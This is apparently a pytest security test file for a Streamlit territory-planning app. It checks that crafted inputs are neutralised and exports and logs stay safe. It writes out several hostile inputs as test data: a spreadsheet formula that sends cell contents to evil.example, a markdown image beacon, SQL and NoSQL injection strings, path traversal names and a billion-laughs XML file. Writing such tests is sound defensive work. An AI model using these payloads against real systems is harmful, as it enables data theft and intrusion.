"""Attacks on the pages and what is behind them: crafted values, lost files, hostile addresses, leaks."""

from __future__ import annotations

import json
import logging
import re
import subprocess
import sys
import zipfile
from io import BytesIO

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from terr.edits import moves
from terr.model.person import Person
from terr.model.reps import Rep
from terr.report.safe import is_formula
from terr.ui.access.pages import NAMES
from terr.view.text import markdown
from terr.workspace.accounts import dataset
from terr.workspace.caches import Caches
from terr.workspace.live import edit_queue, map_events
from terr.workspace.live.map_events import WindowState
from terr.workspace.plan import editing
from terr.workspace.reports import downloads
from tests.conftest import ROOT
from tests.helpers.effort import some
from tests.helpers.spaces import DELAWARE, KENT, RHODE_ISLAND, csv_of, data_set, start
from tests.pages.test_pages import worked

FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
IMAGE = "![x](http://evil.example/x.png)"
ADDRESSES = (
    "' OR 1=1; DROP TABLE scenarios; --",
    "x" * 100_000,
    "\u202e\u0000\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "../../etc/passwd",
    "%00",
    "[]",
    '{"$ne": 1}',
    IMAGE,
    " ",
    "0",
)


@pytest.fixture
def app_ws(open_app):
    """The workspace the app itself works on."""
    from terr.ui.session import state

    return state.workspace()


def lines(window: AppTest) -> str:
    """Everything a page says, as one text."""
    return "\n".join(e.value for kind in (window.error, window.warning, window.info, window.markdown) for e in kind)


@pytest.mark.parametrize("text", ["www.evil.example", "http://evil.example", "https://e.example", "a@evil.example"])
def test_addresses_in_text_are_broken_up(text):
    said = markdown(text).replace("\\", "")
    assert said != text
    assert said.replace("\u2060", "") == text


def test_icons_and_entities_in_text_stay_text():
    assert ":material/" not in markdown(":material/lock:").replace("\\", "")
    assert markdown("AT&amp;T") == "AT\\&amp;T"
    assert markdown("12:30, Fort Worth").replace("\\", "") == "12:30, Fort Worth"


HUGE = [
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": list(range(1_000_000)), "to": 0}]},
    {"events": [{"s": "m~", "n": 10**400, "k": "undo"}]},
    {"events": [{"s": "m~", "n": float("nan"), "k": "undo"}]},
    {"events": [{"s": "m~", "n": float("inf"), "k": "undo"}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [0], "to": 1e300}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [float("nan")], "to": 0}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [-1], "to": 0}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [0], "to": 31_999}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [0], "to": 0, "seen": [10**9]}]},
    {"events": [{"s": "m~", "n": 1, "k": "paint", "units": [[0]], "to": [0]}]},
    {"events": [{"s": "m" * 10**6 + "~", "n": 1, "k": "undo"}]},
    {"events": [{"s": "\x00\ud800~", "n": 1, "k": "undo"}]},
    {"events": [{"s": "m~", "n": 1, "k": ["undo"]}]},
    {"events": [{"s": "m~", "n": 1, "k": "active", "to": 10**9}]},
    {"events": [{"s": "m~", "n": 1, "k": "lock", "units": [10**9], "on": "yes"}]},
    {"events": "x" * 1000},
    {"events": [[[[]]]] * 1000},
    [],
    10**400,
]


@pytest.mark.parametrize("value", HUGE, ids=range(len(HUGE)))
def test_crafted_values_of_the_map_change_nothing_and_break_nothing(ws, value):
    sid = start(ws).id
    before, rev = ws.plan(sid)
    for event in value["events"] if isinstance(value, dict) else ():
        if isinstance(event, dict):
            event["p"] = sid
    map_events.apply_events(ws, sid, WindowState(rev=rev, active=0), value)
    if isinstance(value, dict):
        edit_queue.apply_queue(ws, sid, "m~", value["events"], Person("", "me"))
    after = ws.plan(sid)[0]
    if value is not HUGE[8]:  # a wrong memory of what stood there is told, not obeyed
        assert (after.assign == before.assign).all()
    assert not after.locked_units.any()


def test_a_value_for_one_plan_never_reaches_another(ws):
    data = data_set(ws)
    one, other = start(ws, data=data).id, start(ws, data=data).id
    rev = ws.store.scenarios.rev(one)
    for n, p in enumerate((other, None, 0, [one], one.upper()), 1):
        event = {"s": "m~", "n": n, "p": p, "k": "paint", "units": [KENT], "to": 0}
        assert edit_queue.apply_queue(ws, one, "m~", [event], Person("", "me")).n == n
    assert (ws.store.scenarios.rev(one), ws.store.scenarios.rev(other)) == (rev, rev)


@pytest.mark.parametrize("address", ADDRESSES, ids=range(len(ADDRESSES)))
def test_hostile_addresses_are_one_line(open_app, app_ws, address):
    sid = start(app_ws).id
    window = open_app("plan", scenario=address)
    assert not window.exception
    assert not window.error, [e.value for e in window.error]
    assert "![x](" not in lines(window)
    assert app_ws.store.scenarios.get(sid).id == sid


def test_messages_and_notices_are_shown_as_text(open_app, app_ws):
    sid = start(app_ws).id
    editing.edit(app_ws, sid, 0, lambda p, _: moves.rename(p, 0, IMAGE), strict=False)
    window = open_app("plan", scenario=sid)
    window.button(key="manage").click().run()
    window.button(key="man_lock").click().run()
    said = [t.value for t in window.toast]
    assert any("evil" in t for t in said)
    assert not any("![x](" in t for t in said)


@pytest.mark.parametrize("kind", downloads.KINDS)
def test_no_export_holds_a_live_formula(ws, kind, tmp_path):
    rows = [(FORMULA.replace('"', "").replace(",", ";"), c, s, v) for _, c, s, v in DELAWARE[:4]]
    raw, columns = dataset.inspect(csv_of(rows, "=Revenue"), "=cmd.csv")
    columns = dataset.with_column(columns, {"=Revenue": "=Revenue"})
    data = dataset.save(ws, csv_of(rows, "=Revenue"), dataset.intake(raw, columns), reps=[Rep("=1+1", "@SUM(A1)", "")])
    sid = start(ws, data=data, measure="=Revenue").id
    editing.edit(ws, sid, 0, lambda p, _: moves.rename(p, 0, FORMULA), strict=False)
    editing.edit(ws, sid, 0, lambda p, _: moves.set_rep(p, 0, "=1+1"), strict=False)
    editing.paint(ws, sid, [KENT], 0)
    ws.store.scenarios.rename(sid, "..\\../=cmd|x")
    name = downloads.file_name(ws.store.scenarios.get(sid).name, kind)
    assert name[0].isalnum()
    assert not set(name) & set('/\\=|:\r\n"')
    content = downloads.export(ws, sid, kind).data
    if kind.endswith("xlsx"):
        book = openpyxl.load_workbook(BytesIO(content))
        cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
        assert any(str(c.value).lstrip("'").startswith("=HYPERLINK") for c in cells)
        own = re.compile(r"=(SUM|SUMIF|COUNTIF|ROWS|ROUND)\((?!.*HYPERLINK)[A-Za-z0-9$:!,()\" -]*\)")
        assert not [c.value for c in cells if c.data_type == "f" and not own.fullmatch(c.value)]
        assert not [c for c in cells if c.hyperlink]
    elif kind.endswith("csv"):
        table = pd.read_csv(BytesIO(content), header=None, dtype=str, keep_default_na=False)
        assert not [v for v in table.to_numpy().ravel() if is_formula(v)]
    elif kind.endswith((".gpkg", ".zip")):  # a map shows the name; what a spreadsheet opens beside it has no formula
        (kept := tmp_path / kind).write_bytes(content)
        assert FORMULA in gpd.read_file(kept).to_numpy().ravel().tolist()
        if kind.endswith(".zip"):
            with zipfile.ZipFile(BytesIO(content)) as packed:
                fields = pd.read_csv(packed.open("fields.csv"), header=None, dtype=str, keep_default_na=False)
            assert not [v for v in fields.to_numpy().ravel() if is_formula(v)]
    else:
        value = json.loads(content)
        assert value["features"][0]["properties"]["territory"] == FORMULA  # JSON has no formulas; a map shows the name


HOSTILE_FILES = {
    "image.csv": b"\x89PNG\r\n\x1a\n" + bytes(1000),
    "quote.csv": b'Account ID,Revenue\n"' + b"x" * 50_000_000,
    "../../../etc/cron.d/x.csv": b"\x00" * 1000,
    "laughs.xlsx": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "a"><!ENTITY b "&a;&a;">]><l>&b;</l>',
    "open.xlsx": b"PK\x03\x04" + bytes(100),
}


@pytest.mark.parametrize("name", HOSTILE_FILES)
def test_hostile_files_end_in_one_line_on_the_page(open_app, app_ws, tmp_path, name):
    window = open_app()
    before = {p for p in tmp_path.rglob("*") if p.is_file()}
    window.file_uploader[0].upload(name, HOSTILE_FILES[name])
    worked(window.run())
    assert not window.exception
    assert len(window.error) == 1, [e.value for e in window.error]
    assert "\n" not in window.error[0].value
    assert len(window.error[0].value) < 600
    new = {p for p in tmp_path.rglob("*") if p.is_file()} - before
    assert {p.name.rsplit("-", 1)[0] for p in new} <= {"terr.db"}, new


@pytest.mark.slow
def test_a_plan_whose_accounts_are_lost_is_one_line_and_the_others_work(open_app, app_ws, tmp_path, caplog):
    lost = start(app_ws)
    kept = start(app_ws, "RI", RHODE_ISLAND)
    root = tmp_path / "terr"
    sha = app_ws.store.datasets.get(lost.dataset_id).sha256
    (root / "accounts" / f"{lost.dataset_id}.parquet").unlink()
    (root / "uploads" / sha[:2] / sha).unlink()  # from which they would be made again
    for page in NAMES:
        app_ws.caches = Caches()  # as after a restart
        with caplog.at_level(logging.DEBUG):
            window = open_app(page, scenario=lost.id)
        assert not window.exception, page
        assert "Something went wrong" not in lines(window), page
        quiet = page in {"home", "scenarios", "accounts", "settings"}
        assert quiet or "stored any more" in lines(window), (page, lines(window))
        assert "Customer A" not in caplog.text
    window = open_app("plan", scenario=kept.id)
    assert not window.exception
    assert not window.error
    assert len([b for b in open_app("scenarios").button if b.key.startswith("open_")]) == 2


@pytest.mark.parametrize("damage", ["gone", "cut", "other"])
def test_an_upload_that_is_lost_is_one_line_on_its_page(open_app, app_ws, tmp_path, damage):
    sid = start(app_ws).id
    blob = next(p for p in (tmp_path / "terr" / "uploads").rglob("*") if p.is_file())
    if damage == "gone":
        blob.unlink()
    else:
        blob.write_bytes(blob.read_bytes()[:20] if damage == "cut" else b"Account ID\nB-1")
    app_ws.caches = Caches()
    window = open_app("accounts")
    assert not window.exception
    assert "upload" in " ".join(e.value for e in window.error), lines(window)
    assert "Something went wrong" not in lines(window)
    assert not open_app("plan", scenario=sid).error


@pytest.mark.parametrize("damage", [b"", b"PAR1", b"PAR1" + bytes(200) + b"PAR1"])
def test_damaged_accounts_are_one_line(open_app, app_ws, tmp_path, damage):
    info = start(app_ws)
    (tmp_path / "terr" / "accounts" / f"{info.dataset_id}.parquet").write_bytes(damage)
    app_ws.caches = Caches()
    window = open_app("plan", scenario=info.id)
    assert not window.exception
    assert "damaged" in lines(window)


@pytest.mark.slow
@pytest.mark.parametrize("size", [0, 100, 5000])
def test_a_database_damaged_while_the_app_runs_is_one_line(open_app, app_ws, tmp_path, size):
    sid = start(app_ws).id
    app_ws.close()
    path = tmp_path / "terr" / "terr.db"
    path.write_bytes(b"\x00SQLite?" * 1000 if size == 0 else path.read_bytes()[:size])
    for page in NAMES if size == 100 else some(NAMES, 4):  # each page, and each damage
        window = open_app(page, scenario=sid)
        assert not window.exception
        assert "Something went wrong" not in lines(window), page
        said = [e.value for e in window.error]
        assert said, page
        assert all("damaged" in s or "database" in s for s in said), said


def test_the_log_never_holds_what_accounts_say(open_app, app_ws, tmp_path, caplog, capfd, monkeypatch):
    info = start(app_ws)

    def broken(*_: object) -> None:
        secret = app_ws.store.files.read_frame(info.dataset_id)
        raise ValueError(f"bad row: {secret.to_dict('records')[0]}")

    monkeypatch.setattr("terr.ui.header.line", broken)
    with caplog.at_level(logging.DEBUG):
        window = open_app("accounts")
    assert "Something went wrong" in lines(window)
    shown = caplog.text + "".join(capfd.readouterr())
    assert "Customer A-1" not in shown
    assert "ValueError" in shown, "what is needed to mend it is still there"


@pytest.mark.slow
def test_two_processes_on_one_folder_see_each_other_and_lose_nothing(ws):
    sid = start(ws).id
    code = (
        "import sys; from pathlib import Path; from terr.workspace import Workspace\n"
        "from terr.workspace.plan import editing\n"
        "ws = Workspace(Path(sys.argv[1])); ws.plan(sys.argv[2]); print('up', flush=True)\n"
        "for i in range(20):\n"
        "    sys.stdin.readline(); print(editing.paint(ws, sys.argv[2], [1], -(i % 2)).rev, flush=True)\n"
    )
    with subprocess.Popen(
        [sys.executable, "-c", code, str(ws.root), sid],
        cwd=ROOT,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as other:
        assert other.stdin is not None
        assert other.stdout is not None
        assert other.stdout.readline() == "up\n"
        rev = ws.store.scenarios.rev(sid)
        for i in range(20):
            other.stdin.write("go\n")
            other.stdin.flush()
            mine = editing.paint(ws, sid, [0], -(i % 2)).rev
            theirs = int(other.stdout.readline())
            assert mine != theirs
            rev += 2
            assert ws.store.scenarios.rev(sid) == rev
    assert len(ws.store.edits.history(sid).trail(ws.store.scenarios.get(sid).head)) >= 40
